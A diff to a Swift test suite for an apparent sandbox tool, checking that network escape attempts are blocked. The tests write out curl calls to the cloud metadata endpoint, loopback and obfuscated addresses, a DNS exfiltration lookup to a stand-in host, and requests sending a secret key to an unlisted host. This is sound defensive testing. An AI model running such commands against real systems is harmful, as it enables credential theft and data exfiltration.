@@ -108,19 +108,19 @@ extension CLI {
             let result = try place.run(
                 """
                 try() { name=$1; shift; if "$@" >/dev/null 2>&1; then echo "$name through"; else echo "$name held"; fi; }
-                try other curl -sS --max-time 10 --noproxy '*' -k https://other.test.example:\(place.port)/hello
-                try other-proxy curl -sS --max-time 10 -k https://other.test.example:\(place.port)/hello
-                try port curl -sS --max-time 10 --noproxy '*' -k https://api.test.example:\(place.port + 1)/hello
-                try loopback curl -sS --max-time 10 --noproxy '*' -k https://127.0.0.1:\(place.port)/hello
-                try literal curl -sS --max-time 10 -k https://127.0.0.1:\(place.port)/hello --noproxy ''
-                try mapped curl -sS --max-time 10 -k --noproxy '' 'https://[::ffff:127.0.0.1]:\(place.port)/hello'
-                try octal curl -sS --max-time 10 -k --proxy http://198.18.0.1:3128 --noproxy '' http://0177.0.0.1:\(place.port)/
-                try metadata curl -sS --max-time 10 --noproxy '' http://169.254.169.254/latest/meta-data/
-                try metadata-direct curl -sS --max-time 10 --noproxy '*' http://169.254.169.254/latest/meta-data/
-                try sni curl -sS --max-time 10 --noproxy '*' -k --connect-to ::api.test.example:\(place.port) \
+                try other curl -fsS --max-time 10 --noproxy '*' -k https://other.test.example:\(place.port)/hello
+                try other-proxy curl -fsS --max-time 10 -k https://other.test.example:\(place.port)/hello
+                try port curl -fsS --max-time 10 --noproxy '*' -k https://api.test.example:\(place.port + 1)/hello
+                try loopback curl -fsS --max-time 10 --noproxy '*' -k https://127.0.0.1:\(place.port)/hello
+                try literal curl -fsS --max-time 10 -k https://127.0.0.1:\(place.port)/hello --noproxy ''
+                try mapped curl -fsS --max-time 10 -k --noproxy '' 'https://[::ffff:127.0.0.1]:\(place.port)/hello'
+                try octal curl -fsS --max-time 10 -k --proxy http://198.18.0.1:3128 --noproxy '' http://0177.0.0.1:\(place.port)/
+                try metadata curl -fsS --max-time 10 --noproxy '' http://169.254.169.254/latest/meta-data/
+                try metadata-direct curl -fsS --max-time 10 --noproxy '*' http://169.254.169.254/latest/meta-data/
+                try sni curl -fsS --max-time 10 --noproxy '*' -k --connect-to ::api.test.example:\(place.port) \
                     https://other.test.example:\(place.port)/hello
                 try exfiltration getent ahosts c2VjcmV0.exfil.test.example
-                try plain curl -sS --max-time 10 --noproxy '*' http://api.test.example:\(place.port)/hello
+                try plain curl -fsS --max-time 10 --noproxy '*' http://api.test.example:\(place.port)/hello
                 """)
             for line in result.text.split(separator: "\n") { #expect(line.hasSuffix(" held"), "\(line)") }
             #expect(result.text.split(separator: "\n").count == 12, "\(result)")
@@ -226,9 +226,11 @@ extension CLI {
                 curl -sS --max-time 20 -H "Authorization: Bearer $KEY" $api
                 curl -sS --max-time 20 -o /dev/null -w '%{http_code}\\n' -H "X-Other: $KEY" $api
                 curl -sS --max-time 20 -o /dev/null -w '%{http_code}\\n' -d "key=$KEY" https://other.test.example:\(place.port)/
+                sleep 1
                 """,
                 credentials: "credentials: [{name: api, provider: api, expose: env, variable: KEY}]",
                 more: """
+                    outcome: {changed: []}
                     network:
                       allow:
                         - {host: api.test.example, ports: [\(place.port)], addresses: [127.0.0.0/8]}
